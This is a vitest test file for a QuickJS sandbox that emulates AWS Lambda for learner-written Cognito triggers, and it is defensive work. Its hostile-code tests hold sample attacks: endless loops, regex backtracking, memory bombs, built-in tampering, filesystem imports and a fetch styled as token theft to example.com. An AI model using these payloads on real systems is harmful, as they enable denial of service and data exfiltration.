import { format } from 'node:util';
import { describe, expect, test } from 'vitest';
import type { InvocationResult } from '@/lib/cognito/core/context';
import { createQuickJsRuntime } from '@/lib/cognito/runtime';

const MB = 1024 * 1024;
/** Wall-clock limit for the memory cases: far beyond what they need, so only the memory cap can end them. */
const MEMORY_CASE_TIMEOUT_MS = 30_000;
/** Generous for ordinary code: a cold engine's first calls are slow on a loaded machine. */
const LIMITS = { timeoutMs: 3000, memoryBytes: 32 * MB };
/** Short limit keeps the endless-loop cases fast; one test below uses Cognito's real 5 s. */
const SHORT = { timeoutMs: 200, memoryBytes: 32 * MB };
const NOW = Date.parse('2026-01-01T00:00:00.000Z');

function seeded(seed: number): () => number {
	let s = seed >>> 0;
	return () => {
		s = (s * 1664525 + 1013904223) >>> 0;
		return s / 2 ** 32;
	};
}

const runtime = createQuickJsRuntime({ guestClock: { now: () => NOW }, random: seeded(1) });
const run = (code: string, event: object = {}, limits = LIMITS) =>
	runtime.invoke(code, event, limits);

function ok(result: InvocationResult): unknown {
	if (!result.ok)
		throw new Error(
			`expected success, got ${result.kind}: ${result.message}\n${result.logs.join('\n')}`
		);
	return result.value;
}
function failure(result: InvocationResult) {
	if (result.ok) throw new Error(`expected a failure, got ${JSON.stringify(result.value)}`);
	return result;
}
/** After every hostile case the same runtime must still run ordinary code. */
async function expectStillWorks() {
	expect(
		ok(await run('export const handler = async (event) => ({ ...event, fine: true });', { n: 1 }))
	).toEqual({ n: 1, fine: true });
}

const preSignUpEvent = {
	version: '1',
	region: 'us-east-1',
	userPoolId: 'us-east-1_EXAMPLE',
	userName: 'alice',
	callerContext: { awsSdkVersion: 'aws-sdk-unknown-unknown', clientId: '1example23456789' },
	triggerSource: 'PreSignUp_SignUp',
	request: { userAttributes: { email: 'alice@example.com' }, validationData: null },
	response: { autoConfirmUser: false, autoVerifyEmail: false, autoVerifyPhone: false },
};

describe('handler forms', () => {
	test.each([
		['export const (async arrow)', 'export const handler = async (event) => ({ got: event.x });'],
		['export async function', 'export async function handler(event) { return { got: event.x }; }'],
		[
			'export function returning a promise',
			'export function handler(event) { return Promise.resolve({ got: event.x }); }',
		],
		['exports.handler', 'exports.handler = async (event, context) => ({ got: event.x });'],
		['module.exports.handler', 'module.exports.handler = async (event) => ({ got: event.x });'],
		[
			'module.exports = { handler }',
			'const handler = async (event) => ({ got: event.x });\nmodule.exports = { handler };',
		],
		[
			'callback style',
			'exports.handler = function (event, context, callback) { callback(null, { got: event.x }); };',
		],
		[
			'callback after a timer',
			'exports.handler = (event, context, callback) => { setTimeout(() => callback(null, { got: event.x }), 50); };',
		],
		[
			'context.succeed (legacy)',
			'exports.handler = (event, context) => { context.succeed({ got: event.x }); };',
		],
		['plain sync function', 'exports.handler = (event) => ({ got: event.x });'],
		[
			'module with top-level await',
			'const x = await Promise.resolve(1);\nexport const handler = async (event) => ({ got: event.x * x });',
		],
	])('%s', async (_name, code) => {
		expect(ok(await run(code, { x: 7 }))).toEqual({ got: 7 });
	});

	test('the event round-trips unchanged', async () => {
		expect(ok(await run('export const handler = async (event) => event;', preSignUpEvent))).toEqual(
			preSignUpEvent
		);
	});

	test('a PreSignUp trigger that auto-confirms returns the modified event', async () => {
		const code = `export const handler = async (event) => {
			if (event.request.userAttributes.email.endsWith('@example.com')) {
				event.response.autoConfirmUser = true;
				event.response.autoVerifyEmail = true;
			}
			return event;
		};`;
		const value = ok(await run(code, preSignUpEvent)) as typeof preSignUpEvent;
		expect(value.response).toEqual({
			autoConfirmUser: true,
			autoVerifyEmail: true,
			autoVerifyPhone: false,
		});
		expect(preSignUpEvent.response.autoConfirmUser).toBe(false); // the host's object is untouched
	});

	test('undefined results come back as null, as Lambda returns them', async () => {
		expect(ok(await run('export const handler = async () => {};'))).toBeNull();
	});

	test('a promise that never settles returns null with a note, as Lambda does', async () => {
		const result = await run('export const handler = () => new Promise(() => {});');
		expect(ok(result)).toBeNull();
		expect(result.logs.at(-1)).toMatch(/never settled/);
	});

	test('the Lambda context object is there', async () => {
		const value = ok(
			await run(
				'export const handler = async (event, context) => ({ name: context.functionName, left: context.getRemainingTimeInMillis(), id: context.awsRequestId });'
			)
		) as Record<string, unknown>;
		expect(value).toMatchObject({ name: 'learner-function', left: LIMITS.timeoutMs });
		expect(value.id).toMatch(
			/^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/
		);
	});
});

describe('failures map to the right kind with a learner-friendly message', () => {
	test('a syntax error is a crash with line and column', async () => {
		const result = failure(
			await run('export const handler = async (event) => {\n  return event +;\n};')
		);
		expect(result.kind).toBe('crash');
		expect(result.message).toMatch(/^SyntaxError: .+ at line 2, column \d+ of index\.mjs$/);
		await expectStillWorks();
	});

	test('a syntax error in CommonJS code names index.js', async () => {
		const result = failure(await run('exports.handler = async () => {\n  return {;\n};'));
		expect(result).toMatchObject({
			kind: 'crash',
			message: expect.stringMatching(/SyntaxError: .+ at line 2, column \d+ of index\.js/),
		});
	});

	test('a missing handler export is a crash that says what to export', async () => {
		const result = failure(await run('export const handle = async (event) => event;'));
		expect(result.kind).toBe('crash');
		expect(result.message).toMatch(
			/^index\.handler is undefined or not exported\. Export a function named handler/
		);
		expect(failure(await run('export const handler = 42;')).message).toMatch(
			/index\.handler is not a function \(it is a number\)/
		);
		await expectStillWorks();
	});

	test('a thrown Error is an error carrying its message, with the stack logged', async () => {
		const result = failure(
			await run(
				'export const handler = async () => {\n  throw new Error("Email domain not allowed");\n};'
			)
		);
		expect(result).toMatchObject({ kind: 'error', message: 'Email domain not allowed' });
		expect(result.logs.at(-1)).toMatch(
			/^Invoke Error: Error: Email domain not allowed\n\s+at handler \(index\.mjs:2:\d+\)/
		);
		await expectStillWorks();
	});

	test.each([
		['a string', 'throw "boom";', 'boom'],
		['an object', 'throw { code: 42 };', '[object Object]'],
		['null', 'throw null;', 'null'],
		['a number', 'throw 7;', '7'],
		['a rejected promise with a string', 'return Promise.reject("nope");', 'nope'],
		['a callback error', 'callback(new Error("via callback"));', 'via callback'],
	])('throwing %s is an error', async (_name, body, message) => {
		const result = failure(
			await run(`exports.handler = async (event, context, callback) => { ${body} };`)
		);
		expect(result).toMatchObject({ kind: 'error', message });
		await expectStillWorks();
	});

	test('an error thrown while loading is a crash', async () => {
		const result = failure(
			await run('throw new TypeError("bad config");\nexport const handler = async () => 1;')
		);
		expect(result).toMatchObject({
			kind: 'crash',
			message: expect.stringMatching(
				/failed while loading.*TypeError: bad config \(line 1, column \d+\)/
			),
		});
	});

	test('an error thrown in a timer ends the invocation as an error', async () => {
		const result = failure(
			await run(
				'export const handler = async () => { setTimeout(() => { throw new Error("in timer"); }, 10); await new Promise((r) => setTimeout(r, 100)); };'
			)
		);
		expect(result).toMatchObject({ kind: 'error', message: 'in timer' });
	});

	test('a result that cannot be serialised is an error', async () => {
		const result = failure(
			await run('export const handler = async () => { const a = {}; a.self = a; return a; };')
		);
		expect(result).toMatchObject({
			kind: 'error',
			message: expect.stringMatching(/Unable to stringify the response/),
		});
	});
});

describe('hostile code is contained and reported', () => {
	test('an endless loop is stopped at the time limit', async () => {
		const result = failure(
			await run('export const handler = async () => { while (true) {} };', {}, SHORT)
		);
		expect(result).toMatchObject({ kind: 'timeout', message: 'Task timed out after 0.20 seconds' });
		expect(result.durationMs).toBeGreaterThanOrEqual(200);
		await expectStillWorks();
	});

	test('an endless async chain is stopped too (pending jobs respect the limit)', async () => {
		expect(
			failure(await run('export const handler = async () => { for (;;) await null; };', {}, SHORT))
				.kind
		).toBe('timeout');
		await expectStillWorks();
	});

	test('an endless loop at the top level of the module is stopped', async () => {
		expect(
			failure(await run('while (true) {}\nexport const handler = async () => 1;', {}, SHORT)).kind
		).toBe('timeout');
		await expectStillWorks();
	});

	test('catastrophic regular-expression backtracking is stopped', async () => {
		expect(
			failure(
				await run('export const handler = async () => /(a+)+b/.test("a".repeat(40));', {}, SHORT)
			).kind
		).toBe('timeout');
		await expectStillWorks();
	});

	// The memory cap must decide these, not the clock: on a loaded machine 5 s of wall time ran out first.
	test('a memory bomb fails as a crash that mentions memory', async () => {
		const result = failure(
			await run(
				"export const handler = async () => { const a = []; for (;;) a.push('x'.repeat(1e6)); };",
				{},
				{ timeoutMs: MEMORY_CASE_TIMEOUT_MS, memoryBytes: 32 * MB }
			)
		);
		expect(result.kind).toBe('crash');
		expect(result.message).toMatch(/out of memory.*32 MB memory limit/);
		await expectStillWorks();
	});

	test('a bomb of typed arrays is capped as well', async () => {
		const result = failure(
			await run(
				'export const handler = async () => { const a = []; for (;;) a.push(new Uint8Array(4e6)); };',
				{},
				{ timeoutMs: MEMORY_CASE_TIMEOUT_MS, memoryBytes: 16 * MB }
			)
		);
		expect(result).toMatchObject({ kind: 'crash', message: expect.stringMatching(/memory/) });
		await expectStillWorks();
	});

	test('an endless promise chain that runs out of memory is an out-of-memory crash, not a null result', async () => {
		const result = failure(
			await run(
				`export const handler = async () => {
					const keep = [];
					const spin = () => { keep.push(new Array(10000).fill(1)); return Promise.resolve().then(spin); };
					spin();
					return new Promise(() => {});
				};`,
				{},
				{ timeoutMs: MEMORY_CASE_TIMEOUT_MS, memoryBytes: 16 * MB }
			)
		);
		expect(result).toMatchObject({
			kind: 'crash',
			message: expect.stringMatching(/out of memory/),
		});
		await expectStillWorks();
	});

	test('a bomb of small objects (where QuickJS can only throw null) is reported as memory too', async () => {
		const result = failure(
			await run(
				'export const handler = async () => { const a = []; for (;;) a.push({ a: [1, 2, 3] }); };',
				{},
				{ timeoutMs: MEMORY_CASE_TIMEOUT_MS, memoryBytes: 16 * MB }
			)
		);
		expect(result).toMatchObject({
			kind: 'crash',
			message: expect.stringMatching(/out of memory/),
		});
		await expectStillWorks();
	});

	test('deep recursion fails with a stack error', async () => {
		const result = failure(
			await run(
				'export const handler = async () => { const f = (n) => f(n + 1) + 1; return f(0); };'
			)
		);
		expect(result).toMatchObject({ kind: 'error', message: 'Maximum call stack size exceeded' });
		await expectStillWorks();
	});

	test('ordinary recursion depth still works', async () => {
		expect(
			ok(
				await run(
					'export const handler = async () => { const f = (n) => (n === 0 ? 0 : 1 + f(n - 1)); return f(500); };'
				)
			)
		).toBe(500);
	});

	test('tampering with built-ins stays inside that invocation', async () => {
		const tamper = `
			Object.prototype.polluted = 'yes';
			Array.prototype.map = null;
			JSON.parse = () => 'hacked';
			JSON.stringify = () => '"hacked"';
			Promise.prototype.then = function () { throw new Error('no'); };
			globalThis.leftover = 42;
			export const handler = async (event) => ({ seen: [].polluted, name: event.userName });`;
		expect(ok(await run(tamper, { userName: 'alice' }))).toEqual({ seen: 'yes', name: 'alice' });
		const check = `export const handler = async () => ({
			polluted: ({}).polluted ?? null, map: typeof [].map, parse: JSON.parse('1'), leftover: typeof globalThis.leftover,
			then: await Promise.resolve('fine'),
		});`;
		expect(ok(await run(check))).toEqual({
			polluted: null,
			map: 'function',
			parse: 1,
			leftover: 'undefined',
			then: 'fine',
		});
		expect(({} as Record<string, unknown>).polluted).toBeUndefined();
		expect(typeof [].map).toBe('function');
		expect(JSON.parse('1')).toBe(1);
	});

	test('one invocation cannot see another', async () => {
		const code =
			'globalThis.count = (globalThis.count ?? 0) + 1; export const handler = async () => globalThis.count;';
		expect(ok(await run(code))).toBe(1);
		expect(ok(await run(code))).toBe(1);
	});

	test('fetch is refused with a clear message', async () => {
		const result = failure(
			await run(
				'export const handler = async () => { await fetch("https://example.com/steal?token=1"); };'
			)
		);
		expect(result).toMatchObject({
			kind: 'error',
			message: expect.stringMatching(
				/no network.*https:\/\/example\.com\/steal\?token=1 was not sent/
			),
		});
		await expectStillWorks();
	});

	test('the page, storage, network and host objects do not exist in the guest', async () => {
		const names = [
			'window',
			'document',
			'localStorage',
			'sessionStorage',
			'indexedDB',
			'navigator',
			'XMLHttpRequest',
			'WebSocket',
			'importScripts',
			'postMessage',
			'caches',
			'Deno',
			'Bun',
		];
		const code = `export const handler = async () => ({ ${names.map((name) => `${name}: typeof ${name}`).join(', ')}, versions: typeof process.versions });`;
		expect(ok(await run(code))).toEqual(
			Object.fromEntries([...names.map((name) => [name, 'undefined']), ['versions', 'undefined']])
		);
	});

	test('dynamic import() fails with a clear message', async () => {
		const result = failure(
			await run('export const handler = async () => { await import("node:fs"); };')
		);
		expect(result).toMatchObject({
			kind: 'error',
			message: expect.stringMatching(
				/^Cannot import 'node:fs': the Cognito sandbox runs your function on its own/
			),
		});
		await expectStillWorks();
	});

	test('a static import of anything but crypto fails while loading', async () => {
		const result = failure(
			await run(
				"import { S3Client } from '@aws-sdk/client-s3';\nexport const handler = async () => 1;"
			)
		);
		expect(result).toMatchObject({
			kind: 'crash',
			message: expect.stringMatching(/Cannot import '@aws-sdk\/client-s3'/),
		});
		await expectStillWorks();
	});

	test('require knows only crypto', async () => {
		expect(
			failure(await run("const fs = require('fs');\nexports.handler = async () => 1;")).message
		).toMatch(/Cannot find module 'fs'/);
		expect(
			ok(
				await run(
					"const { randomUUID } = require('crypto');\nexports.handler = async () => randomUUID().length;"
				)
			)
		).toBe(36);
		expect(
			ok(
				await run(
					"import { randomUUID } from 'node:crypto';\nexport const handler = async () => randomUUID().length;"
				)
			)
		).toBe(36);
	});
});

describe('console capture', () => {
	test('console methods are captured in order', async () => {
		const result = await run(
			`export const handler = async (event) => {
			console.log('hello', event.userName);
			console.info('info');
			console.warn('warn');
			console.error('error', new Error('oops'));
			console.debug({ a: 1 });
			return 1;
		};`,
			{ userName: 'alice' }
		);
		expect(result.logs).toEqual([
			'hello alice',
			'info',
			'warn',
			expect.stringMatching(/^error Error: oops\n\s+at handler/),
			'{ a: 1 }',
		]);
	});

	test.each([
		`'text', 42, true, null, undefined`,
		`{ userName: 'alice', request: { userAttributes: { email: 'alice@example.com', name: 'Alice Example' } }, response: {} }`,
		`{ a: { b: { c: { d: 1 } } } }`,
		`[1, 2, 3, 4, 5, 6, 7, 8, 9, 10]`,
		`['it\\'s', "say \\"hi\\"", 'line\\nbreak']`,
		`new Map([['k', 1]]), new Set(['a'])`,
		`'%s is %d years and %i days (%j)', 'Bob', 42.5, 3.9, { a: 1 }`,
		`(() => { const a = { name: 'a' }; a.self = a; return a; })()`,
		`[1, , 3], new Array(3), Object.create(null), -0, 10n, Symbol('s')`,
		`function named() {}, class Foo {}, async () => {}`,
		`Array.from({ length: 120 }, (_, i) => i)`,
	])('console.log(%s) prints as Node does', async (args) => {
		const result = await run(`export const handler = async () => { console.log(${args}); };`);
		expect(result.logs).toEqual([format(...(eval(`[${args}]`) as unknown[]))]);
	});

	test('output is capped in lines and size, with a note', async () => {
		const result = await run(
			'export const handler = async () => { for (let i = 0; i < 1000; i++) console.log("line", i); return "done"; };'
		);
		expect(ok(result)).toBe('done');
		expect(result.logs).toHaveLength(201);
		expect(result.logs[199]).toBe('line 199');
		expect(result.logs[200]).toMatch(/^\[sandbox\] 800 more console lines dropped/);
		const big = await run(
			'export const handler = async () => { for (let i = 0; i < 10; i++) console.log("x".repeat(20000)); };'
		);
		expect(big.logs.join('').length).toBeLessThan(70 * 1024);
		expect(big.logs.some((line) => line.endsWith('… [truncated]'))).toBe(true);
	});
});

describe('time and randomness inside the guest', () => {
	test('Date starts at the sandbox clock and moves only with timers', async () => {
		const code = `export const handler = async () => {
			const start = Date.now();
			const iso = new Date().toISOString();
			await new Promise((resolve) => setTimeout(resolve, 1500));
			return { start, iso, waited: Date.now() - start, parsed: new Date(0).getTime(), isDate: new Date() instanceof Date };
		};`;
		// Virtual time: the guest waited 1.5 s of its own clock; the run is synchronous, so nothing real was waited.
		const value = ok(await run(code, {}, { timeoutMs: 5000, memoryBytes: 32 * MB }));
		expect(value).toEqual({
			start: NOW,
			iso: '2026-01-01T00:00:00.000Z',
			waited: 1500,
			parsed: 0,
			isDate: true,
		});
	});

	test('local time is UTC, as in Lambda, whatever the host time zone', async () => {
		const saved = process.env.TZ;
		process.env.TZ = 'Asia/Kolkata';
		try {
			const code = `export const handler = async () => {
				const d = new Date();
				return [d.toString(), d.getHours(), d.getTimezoneOffset(), new Date(2026, 0, 1).toISOString(), new Date('2026-03-04T05:06:07').toISOString(), d.toLocaleString()];
			};`;
			expect(ok(await run(code))).toEqual([
				'Thu Jan 01 2026 00:00:00 GMT+0000 (Coordinated Universal Time)',
				0,
				0,
				'2026-01-01T00:00:00.000Z',
				'2026-03-04T05:06:07.000Z',
				'1/1/2026, 12:00:00 AM',
			]);
		} finally {
			if (saved === undefined) delete process.env.TZ;
			else process.env.TZ = saved;
		}
	});

	test('a timer due after the limit is a timeout, reported without waiting', async () => {
		const result = failure(
			await run(
				'export const handler = async () => { await new Promise((r) => setTimeout(r, 6000)); return 1; };',
				{},
				{ timeoutMs: 5000, memoryBytes: 32 * MB }
			)
		);
		expect(result).toMatchObject({
			kind: 'timeout',
			message: 'Task timed out after 5.00 seconds',
			durationMs: 5000,
		});
	});

	test('a busy wait on Date.now() ends at once and counts towards duration and limit', async () => {
		const wait = (ms: number) =>
			`export const handler = async () => { const start = Date.now(); while (Date.now() - start < ${ms}) {} return Date.now() - start; };`;
		const short = await run(wait(2000), {}, { timeoutMs: 5000, memoryBytes: 32 * MB });
		expect(ok(short)).toBeGreaterThanOrEqual(2000); // the final read moves the clock once more
		expect(short.durationMs).toBeGreaterThanOrEqual(2000);
		const long = failure(await run(wait(6000), {}, { timeoutMs: 5000, memoryBytes: 32 * MB }));
		expect(long).toMatchObject({ kind: 'timeout', message: 'Task timed out after 5.00 seconds' });
	});

	test('setInterval and clearInterval work on virtual time', async () => {
		const code = `export const handler = async () => new Promise((resolve) => {
			let ticks = 0;
			const id = setInterval(() => { if (++ticks === 3) { clearInterval(id); resolve(ticks); } }, 50);
		});`;
		expect(ok(await run(code))).toBe(3);
	});

	test('Math.random and crypto.randomUUID are seeded from the injected randomness', async () => {
		const code = 'export const handler = async () => [Math.random(), crypto.randomUUID()];';
		const a = createQuickJsRuntime({ guestClock: { now: () => NOW }, random: seeded(7) });
		const b = createQuickJsRuntime({ guestClock: { now: () => NOW }, random: seeded(7) });
		expect(ok(await a.invoke(code, {}, LIMITS))).toEqual(ok(await b.invoke(code, {}, LIMITS)));
	});

	test('durationMs is measured with the injected host clock', async () => {
		let t = 0;
		const clocked = createQuickJsRuntime({ now: () => (t += 10), guestClock: { now: () => NOW } });
		const result = await clocked.invoke(
			'export const handler = async () => 1;',
			{},
			{ timeoutMs: 5000, memoryBytes: 32 * MB }
		);
		expect(ok(result)).toBe(1);
		expect(result.durationMs % 10).toBe(0);
		expect(result.durationMs).toBeGreaterThan(0);
	});
});

describe('the runtime as a whole', () => {
	test('invocations from several runtimes at once all complete', async () => {
		const others = [1, 2, 3].map(() => createQuickJsRuntime({ guestClock: { now: () => NOW } }));
		const results = await Promise.all(
			others.flatMap((r, i) => [
				r.invoke('export const handler = async (e) => e.i * 2;', { i }, LIMITS),
				r.invoke('export const handler = async () => { while (true) {} };', {}, SHORT),
			])
		);
		expect(results.map((r) => (r.ok ? r.value : r.kind))).toEqual([
			0,
			'timeout',
			2,
			'timeout',
			4,
			'timeout',
		]);
	});

	test('missing or absurd limits fall back to bounded ones', async () => {
		const limits = { timeoutMs: Number.NaN, memoryBytes: 2 ** 40 };
		expect(
			ok(await runtime.invoke('export const handler = async (e) => e;', { a: 1 }, limits))
		).toEqual({ a: 1 });
	});

	test(
		'a 5-second endless loop is stopped at Cognito’s real limit',
		{ timeout: 10_000 },
		async () => {
			const result = failure(
				await run(
					'export const handler = async () => { while (true) {} };',
					{},
					{ timeoutMs: 5000, memoryBytes: 32 * MB }
				)
			);
			expect(result).toMatchObject({
				kind: 'timeout',
				message: 'Task timed out after 5.00 seconds',
			});
			expect(result.durationMs).toBeGreaterThanOrEqual(5000);
			expect(result.durationMs).toBeLessThan(6000);
			await expectStillWorks();
		}
	);
});
